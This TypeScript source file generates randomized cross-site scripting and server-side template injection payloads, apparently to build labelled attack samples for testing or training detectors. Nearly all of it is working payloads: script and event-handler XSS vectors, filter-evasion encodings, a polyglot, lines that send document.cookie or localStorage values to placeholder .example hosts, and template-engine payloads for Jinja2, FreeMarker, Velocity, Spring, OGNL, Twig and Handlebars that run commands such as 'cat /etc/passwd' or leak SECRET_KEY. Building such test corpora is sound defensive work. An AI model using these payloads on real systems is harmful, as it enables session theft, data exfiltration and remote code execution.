import type { Payload } from '../attack.ts';
import type { Random } from '../random.ts';
import { word } from './words.ts';

const run = (r: Random): string =>
  r.pick([
    `alert(${r.int(2, 9999)})`,
    `alert('${r.token(5)}')`,
    `confirm(${r.int(2, 9999)})`,
    'prompt`' + r.token(4) + '`',
    `alert(document.domain+${r.int(1, 99)})`,
    `fetch('//${word(r)}-${r.int(1, 999)}.example/?c='+document.cookie)`,
    `eval(atob('${Buffer.from(`alert(${r.int(2, 9999)})`).toString('base64')}'))`,
    `top['al'+'ert'](${r.int(2, 9999)})`,
    `eval(String.fromCharCode(97,108,101,114,116,40,${r.int(48, 57)},41))`,
    `window.location='https://${word(r)}.example/'+localStorage.getItem('${word(r)}')`,
  ]);
const entity = (text: string, r: Random): string =>
  [...text]
    .map((c) =>
      r.chance(0.6) ? r.pick([`&#${c.charCodeAt(0)};`, `&#x${c.charCodeAt(0).toString(16)};`]) : c,
    )
    .join('');

export function xssTool(r: Random): Payload {
  const js = run(r);
  const text = r.pick([
    `<script>${js}</script>`,
    `"><script>${js}</script>`,
    `'><img src=x onerror=${js}>`,
    `<img src=x:x onerror=${js.replaceAll(' ', '')}//`,
    `<svg/onload=${js}>`,
    `<sVg/OnLoAd=${js}>`,
    `"><svg onload="${js.replaceAll('"', "'")}">`,
    `<details open ontoggle=${js}>`,
    `<iframe src="javascript:${js}">`,
    `<iframe srcdoc="<script>${js}</script>">`,
    `<body onload=${js}>`,
    `<input autofocus onfocus=${js}>`,
    `<video><source onerror="${js}">`,
    `<marquee onstart=${js}>`,
    `<a href="javascript:${js}">${word(r)}</a>`,
    `<ScRiPt >${js}</sCrIpT>`,
    `<script src=//${word(r)}${r.int(1, 999)}.example/x.js></script>`,
    `<object data="data:text/html;base64,${Buffer.from(`<script>${js}</script>`).toString('base64')}">`,
    `<d3"<"/onclick="1>[${js}]"<">z`,
    `</title><script>${js}</script>`,
    `--><script>${js}</script><!--`,
    `<x onpointerenter=${js}>${word(r)}</x>`,
  ]);
  return { text, technique: 'markup as scanners send it' };
}

export function xssHand(r: Random): Payload {
  const js = run(r);
  const text = r.pick([
    `'-${js}-'`,
    `";${js};//`,
    `</script><script>${js}</script>`,
    `" onmouseover="${js}" x="`,
    `' autofocus onfocus='${js.replaceAll("'", '`')}'`,
    `<img src=1 onerror=${entity('alert(1)', r)}>`,
    `<a href="jav&#x09;ascript:${js}">${word(r)}</a>`,
    `<a href="&#106;avascript:${js}">x</a>`,
    `<scr<script>ipt>${js}</scr</script>ipt>`,
    `<svg><script>${entity('alert(2)', r)}</script></svg>`,
    `<svg><animate onbegin=${js} attributeName=x dur=1s>`,
    `\\u003cscript\\u003e${js}\\u003c/script\\u003e`,
    `&lt;script&gt;${js}&lt;/script&gt;<img src=x onerror=${js}>`,
    `<form><button formaction="javascript:${js}">${word(r)}</button></form>`,
    `<meta http-equiv="refresh" content="0;url=javascript:${js}">`,
    `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${js} )//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${js}//>\\x3e`,
    `<math><a xlink:href="javascript:${js}">${word(r)}</a></math>`,
    `hello <b>${word(r)}</b><img src=/x.png onload="${js.replaceAll('"', "'")}">`,
    `<embed src="data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(${r.int(1, 9999)})"/>`).toString('base64')}">`,
    `[${word(r)}](javascript:${js})`,
  ]);
  return { text, technique: 'markup by hand' };
}

const COMMANDS = ['id', 'whoami', 'cat /etc/passwd', 'uname -a', 'ls -la', 'env'];

export function templateTool(r: Random): Payload {
  const [a, b] = [r.int(11, 9999), r.int(11, 9999)];
  const text = r.pick([
    `{{${a}*${b}}}`,
    `\${${a}*${b}}`,
    `<%= ${a}*${b} %>`,
    `#{${a}*${b}}`,
    `*{${a}*${b}}`,
    `\${{${a}*${b}}}`,
    `{{${a}*'${b}'}}`,
    `@(${a}*${b})`,
    `{${a}*${b}}{{${b}*${a}}}`,
    `{{'${r.token(4)}'*${a}}}`,
    `{%set x=${a}*${b}%}{{x}}`,
    `\${T(java.lang.Math).abs(-${a}${b})}`,
    `#set($x=${a}*${b})\${x}`,
    `[[\${${a}*${b}}]]`,
  ]);
  return { text, technique: 'arithmetic probe' };
}

export function templateHand(r: Random): Payload {
  const cmd = r.pick(COMMANDS);
  const [n, w] = [r.int(1, 600), word(r)];
  const text = r.pick([
    `{{''.__class__.__mro__[1].__subclasses__()[${n}].__name__}}${w}`,
    `{{config.items()}}{{${n}}}`,
    `{{request.application.__globals__.__builtins__.__import__('os').popen('${cmd}').read()}}`,
    `{{lipsum.__globals__['os'].popen('${cmd} ${n}').read()}}`,
    `{{cycler.__init__.__globals__.os.popen('${cmd};echo ${n}').read()}}`,
    `<#assign ex="freemarker.template.utility.Execute"?new()>\${ex("${cmd}")}${n}`,
    `\${"freemarker.template.utility.Execute"?new()("${cmd} ${w}")}`,
    `#set($e="${w}")$e.getClass().forName("java.lang.Runtime").getMethod("getRuntime",null).invoke(null,null).exec("${cmd}")`,
    `__\${T(java.lang.Runtime).getRuntime().exec("${cmd} ${n}")}__::.x`,
    `\${T(java.lang.Runtime).getRuntime().exec('${cmd} ${w}')}`,
    `%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='${cmd}').(@java.lang.Runtime@getRuntime().exec(#cmd))}${n}`,
    `{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("${cmd} ${n}")}}`,
    `{{['${cmd}','${w}']|filter('system')}}`,
    `{{['${cmd} ${n}']|map('passthru')|join}}`,
    `{system('${cmd} ${n}')}`,
    `<%= system('${cmd} ${w}') %>`,
    `<%= File.open('/etc/passwd').read[0..${n}] %>`,
    `#{root.process.mainModule.require('child_process').execSync('${cmd} ${n}')}`,
    `{{range.constructor("return global.process.mainModule.require('child_process').execSync('${cmd} ${n}')")()}}`,
    `{{constructor.constructor('alert(${n})')()}}`,
    `{{#with "s" as |string|}}{{#with "e"}}{{this.push "return require('child_process').execSync('${cmd} ${n}');"}}{{/with}}{{/with}}`,
    `{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='${w}${n}' %}{{c()}}{% endif %}{% endfor %}`,
    `{{self.__init__.__globals__}}{{${n}}}`,
    `{{settings.SECRET_KEY}}{{${n}*${n}}}`,
  ]);
  return { text, technique: 'engine objects', alsoFamilies: ['command-injection', 'xss', 'path-traversal'] };
}
